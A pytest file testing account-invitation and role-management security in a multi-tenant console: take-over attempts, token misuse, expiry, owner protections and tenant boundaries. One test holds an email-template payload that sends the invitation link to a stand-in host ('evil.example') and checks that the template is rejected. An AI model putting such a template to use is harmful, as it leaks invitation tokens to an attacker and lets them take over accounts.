"""People from the console: invitations that the invitee accepts as themselves, role changes, disabling; never
outside the actor's subtree, never locking a tenant out, never a way into somebody else's account."""

from __future__ import annotations

from datetime import timedelta
from pathlib import Path

import pytest
from sqlmodel import Session, select

from services.accounts import invitations, service
from services.accounts import login as login_flow
from services.accounts.sessions import create_session, resolve_session
from services.admin import branding, users
from services.errors import ValidationFailed
from services.models import AuditEvent, Invitation, Membership, Organization, Role, User, UserToken
from services.models.base import utcnow
from services.tenancy.scope import Forbidden
from tests.support.mailbox import outbox_messages, text_of
from tests.support.tenants import actor as _actor


def _org(db: Session, slug: str) -> Organization:
    return db.exec(select(Organization).where(Organization.slug == slug)).one()


def _user(db: Session, username: str) -> User:
    return db.exec(select(User).where(User.username == username)).one()


def _mail_to(outbox: Path, address: str):  # type: ignore[no-untyped-def]
    return [m for m in outbox_messages(outbox) if m["To"].lower() == address][-1]


def _token(message) -> str:  # type: ignore[no-untyped-def]
    return text_of(message).split("token=", 1)[1].split()[0]


def test_a_new_person_accepts_with_a_password_of_their_own_and_can_sign_in(
    db: Session, tree: dict, outbox: Path
) -> None:
    invitations.invite(
        db,
        _actor(db, tree, "a-admin"),
        email="New.Support@Example.com",
        role=Role.SUPPORT,
        organization_id=_org(db, "reseller-a").id,
    )  # type: ignore[arg-type]
    db.commit()
    assert db.exec(select(User).where(User.email == "new.support@example.com")).first() is None  # not yet
    mail = _mail_to(outbox, "new.support@example.com")
    assert "Reseller-A" in mail["Subject"] and "a-admin@example.com" in text_of(mail)
    offer = invitations.offer_for_token(db, _token(mail))
    assert offer is not None and offer.organization == "Reseller-A" and offer.role == Role.SUPPORT
    user = invitations.accept_new_account(db, _token(mail), "a brand new passphrase")
    db.commit()
    assert login_flow.login(db, identifier="new.support@example.com", password="a brand new passphrase")
    assert [m.role for m in db.exec(select(Membership).where(Membership.user_id == user.id)).all()] == [Role.SUPPORT]
    with pytest.raises(ValidationFailed, match="already used"):  # the link works once
        invitations.accept_new_account(db, _token(mail), "another passphrase here")
    with pytest.raises(ValidationFailed, match="already a member"):
        invitations.invite(
            db,
            _actor(db, tree, "a-admin"),
            email="new.support@example.com",
            role=Role.ADMIN,
            organization_id=_org(db, "reseller-a").id,
        )  # type: ignore[arg-type]


def test_inviting_an_existing_account_hands_out_no_way_into_it(db: Session, tree: dict, outbox: Path) -> None:
    """The review's take-over: a reseller's admin invites the platform's operator. Nothing of the operator's
    account changes, no token is mailed, and the reseller gains nothing until the operator accepts."""
    operator = tree["users"]["operator"]
    operator.email_verified_at = utcnow()
    db.add(operator)
    db.commit()
    hash_before = operator.password_hash
    invitations.invite(
        db,
        _actor(db, tree, "a-admin"),
        email="operator@example.com",
        role=Role.ADMIN,
        organization_id=_org(db, "reseller-a").id,
    )  # type: ignore[arg-type]
    db.commit()
    mail = _mail_to(outbox, "operator@example.com")
    assert "token=" not in str(mail) and "/invitations" in text_of(mail)
    assert db.exec(select(UserToken).where(UserToken.user_id == operator.id)).all() == []
    assert (
        db.exec(select(Membership).where(Membership.user_id == operator.id)).all()
        == db.exec(
            select(Membership).where(
                Membership.user_id == operator.id, Membership.organization_id == _org(db, "platform").id
            )
        ).all()
    )
    db.refresh(operator)
    assert operator.password_hash == hash_before
    [offer] = invitations.pending_for(db, operator.id)  # type: ignore[arg-type]
    invitations.respond(db, operator.id, offer.id, accept=False)  # type: ignore[arg-type]
    db.commit()
    assert invitations.pending_for(db, operator.id) == []  # type: ignore[arg-type]
    assert len(db.exec(select(Membership).where(Membership.user_id == operator.id)).all()) == 1
    with pytest.raises(ValidationFailed):  # declined is final
        invitations.respond(db, operator.id, offer.id, accept=True)  # type: ignore[arg-type]


def test_an_existing_account_joins_only_by_accepting_as_itself(db: Session, tree: dict, outbox: Path) -> None:
    cust = _user(db, "cust-b")
    cust.email_verified_at = utcnow()
    db.add(cust)
    db.commit()
    invitation = invitations.invite(
        db,
        _actor(db, tree, "a-admin"),
        email="cust-b@example.com",
        role=Role.SUPPORT,
        organization_id=_org(db, "reseller-a").id,
    )  # type: ignore[arg-type]
    db.commit()
    stranger = tree["users"]["b-admin"]
    with pytest.raises(Forbidden):  # someone else cannot accept it for them
        invitations.respond(db, stranger.id, invitation.id, accept=True)  # type: ignore[arg-type]
    db.rollback()
    invitations.respond(db, cust.id, invitation.id, accept=True)  # type: ignore[arg-type]
    db.commit()
    assert db.exec(
        select(Membership).where(Membership.user_id == cust.id, Membership.organization_id == _org(db, "reseller-a").id)
    ).one()


def test_an_unconfirmed_address_sees_and_accepts_nothing(db: Session, tree: dict) -> None:
    """Someone who signed up with the invitee's address but never confirmed it is not the invitee."""
    invitation = invitations.invite(
        db,
        _actor(db, tree, "a-admin"),
        email="later@example.com",
        role=Role.SUPPORT,
        organization_id=_org(db, "reseller-a").id,
    )  # type: ignore[arg-type]
    db.commit()
    squatter = service.signup(db, email="later@example.com", username="squatter", password="long enough password")
    db.commit()
    assert invitations.pending_for(db, squatter.user_id) == []
    with pytest.raises(Forbidden):
        invitations.respond(db, squatter.user_id, invitation.id, accept=True)  # type: ignore[arg-type]


def test_the_new_person_token_cannot_reset_or_take_an_account(db: Session, tree: dict, outbox: Path) -> None:
    invitations.invite(
        db,
        _actor(db, tree, "a-admin"),
        email="fresh@example.com",
        role=Role.SUPPORT,
        organization_id=_org(db, "reseller-a").id,
    )  # type: ignore[arg-type]
    db.commit()
    token = _token(_mail_to(outbox, "fresh@example.com"))
    with pytest.raises(ValidationFailed, match="invalid"):  # not a password-reset token
        service.reset_password(db, token, "a brand new passphrase")
    db.rollback()
    service.signup(db, email="fresh@example.com", username="freshly", password="my own long password")
    db.commit()
    with pytest.raises(ValidationFailed, match="exists now"):
        invitations.accept_new_account(db, token, "the attackers passphrase")
    db.rollback()
    assert db.exec(select(User).where(User.email == "fresh@example.com")).one().username == "freshly"


def test_invitations_expire_and_can_be_withdrawn(db: Session, tree: dict, outbox: Path) -> None:
    admin = _actor(db, tree, "a-admin")
    invitation = invitations.invite(
        db, admin, email="slow@example.com", role=Role.SUPPORT, organization_id=_org(db, "reseller-a").id
    )  # type: ignore[arg-type]
    invitation.expires_at = utcnow() - timedelta(seconds=1)
    db.add(invitation)
    db.commit()
    token = _token(_mail_to(outbox, "slow@example.com"))
    assert invitations.offer_for_token(db, token) is None
    with pytest.raises(ValidationFailed, match="expired"):
        invitations.accept_new_account(db, token, "a brand new passphrase")
    db.rollback()
    other = invitations.invite(
        db, admin, email="gone@example.com", role=Role.SUPPORT, organization_id=_org(db, "reseller-a").id
    )  # type: ignore[arg-type]
    db.commit()
    assert [r["email"] for r in invitations.list_pending(db, admin)] == ["gone@example.com", "slow@example.com"]
    with pytest.raises(Forbidden):
        invitations.revoke(db, _actor(db, tree, "b-admin"), other.id)  # type: ignore[arg-type]
    db.rollback()
    invitations.revoke(db, admin, other.id)  # type: ignore[arg-type]
    db.commit()
    assert db.get(Invitation, other.id).status == "revoked"  # type: ignore[union-attr]
    assert invitations.offer_for_token(db, _token(_mail_to(outbox, "gone@example.com"))) is None


def test_only_owners_make_owners(db: Session, tree: dict) -> None:
    with pytest.raises(ValidationFailed, match="Only an owner"):
        invitations.invite(
            db,
            _actor(db, tree, "a-admin"),
            email="boss@example.com",
            role=Role.OWNER,
            organization_id=_org(db, "reseller-a").id,
        )  # type: ignore[arg-type]
    db.rollback()
    support = db.exec(select(Membership).where(Membership.user_id == tree["users"]["a-support"].id)).one()
    with pytest.raises(ValidationFailed, match="Only an owner"):
        users.change_role(db, _actor(db, tree, "a-admin"), support.id, Role.OWNER)  # type: ignore[arg-type]


def test_a_sellers_invitation_template_cannot_send_the_link_elsewhere(db: Session, tree: dict) -> None:
    with pytest.raises(ValidationFailed, match="link"):
        branding.save_email_template(
            db,
            _actor(db, tree, "a-admin"),
            _org(db, "reseller-a").id,  # type: ignore[arg-type]
            "invitation",
            {"html": '<img src="https://evil.example/?{{ link }}">'},
        )


def test_no_one_manages_people_outside_their_subtree_or_without_the_role(db: Session, tree: dict) -> None:
    a_customer = db.exec(
        select(Membership)
        .join(User, User.id == Membership.user_id)  # type: ignore[arg-type]
        .where(User.username == "cust-a")
    ).one()
    attempts = [
        lambda: invitations.invite(
            db,
            _actor(db, tree, "b-admin"),
            email="x@example.com",
            role=Role.ADMIN,
            organization_id=_org(db, "reseller-a").id,
        ),
        lambda: users.change_role(db, _actor(db, tree, "b-admin"), a_customer.id, Role.MEMBER),
        lambda: users.set_disabled(db, _actor(db, tree, "b-admin"), a_customer.user_id, True),
        lambda: users.change_role(db, _actor(db, tree, "a-support"), a_customer.id, Role.MEMBER),
    ]
    for attempt in attempts:
        with pytest.raises(Forbidden):
            attempt()
        db.rollback()
    assert db.get(Membership, a_customer.id).role == Role.OWNER  # type: ignore[union-attr]
    assert db.get(User, a_customer.user_id).status == "active"  # type: ignore[union-attr]
    assert db.exec(select(Invitation)).all() == []
    assert len(db.exec(select(AuditEvent).where(AuditEvent.action == "admin.denied")).all()) == 4
    assert {r["email"] for r in users.list_users(db, _actor(db, tree, "b-admin"))[0]} == {
        "b-admin@example.com",
        "cust-b@example.com",
    }


def test_disabling_signs_out_at_once_and_nobody_removes_the_last_owner_or_themselves(db: Session, tree: dict) -> None:
    admin = _actor(db, tree, "a-admin")
    customer = db.exec(select(User).where(User.username == "cust-a")).one()
    owner = db.exec(select(Membership).where(Membership.user_id == customer.id)).one()
    with pytest.raises(ValidationFailed, match=r"Only an owner|at least one owner"):
        users.change_role(db, admin, owner.id, Role.MEMBER)
    operator = _actor(db, tree, "operator")
    with pytest.raises(ValidationFailed, match="at least one owner"):
        users.change_role(db, operator, owner.id, Role.MEMBER)
    own = db.exec(select(Membership).where(Membership.user_id == admin.user_id)).one()
    with pytest.raises(ValidationFailed, match="own role"):
        users.change_role(db, admin, own.id, Role.OWNER)
    with pytest.raises(Forbidden, match="own account"):
        users.set_disabled(db, admin, admin.user_id, True)
    db.rollback()

    token = create_session(db, customer.id)  # type: ignore[arg-type]
    db.commit()
    users.set_disabled(db, admin, customer.id, True)  # type: ignore[arg-type]
    db.commit()
    assert resolve_session(db, token) is None
    users.set_disabled(db, admin, customer.id, False)  # type: ignore[arg-type]
    db.commit()
    assert db.get(User, customer.id).status == "active"  # type: ignore[union-attr]


def test_invitation_edges_are_refused_plainly(db: Session, tree: dict, outbox: Path) -> None:
    admin, reseller = _actor(db, tree, "a-admin"), _org(db, "reseller-a")
    with pytest.raises(ValidationFailed, match="must be one of"):
        invitations.invite(db, admin, email="x@example.com", role="emperor", organization_id=reseller.id)  # type: ignore[arg-type]
    db.rollback()
    assert invitations.offer_for_token(db, "") is None
    # a new person whose name is taken gets the next free username, and signs in at once
    invitations.invite(
        db,
        admin,
        email="a-admin@elsewhere.example",
        role=Role.SUPPORT,  # type: ignore[arg-type]
        organization_id=reseller.id,
    )
    db.commit()
    token = _token(_mail_to(outbox, "a-admin@elsewhere.example"))
    with pytest.raises(ValidationFailed) as weak:
        invitations.accept_new_account(db, token, "short")
    db.rollback()
    assert "password" in weak.value.errors  # and the link still works
    session_token = invitations.accept_and_sign_in(db, token, "a brand new passphrase")
    db.commit()
    current = resolve_session(db, session_token)
    assert current is not None and current.username == "aadmin"  # "a-admin" without the hyphen was free
    accepted = db.exec(select(Invitation).where(Invitation.email == "a-admin@elsewhere.example")).one()
    with pytest.raises(ValidationFailed, match="Only an open invitation"):
        invitations.revoke(db, admin, accepted.id)  # type: ignore[arg-type]


def test_a_username_already_taken_by_the_local_part_gets_a_number(db: Session) -> None:
    assert invitations.free_username(db, "cust-a@x.example") == "custa"
    db.add(User(email="custa@x.example", username="custa", password_hash="x"))
    db.commit()
    assert invitations.free_username(db, "cust-a@x.example") == "custa2"
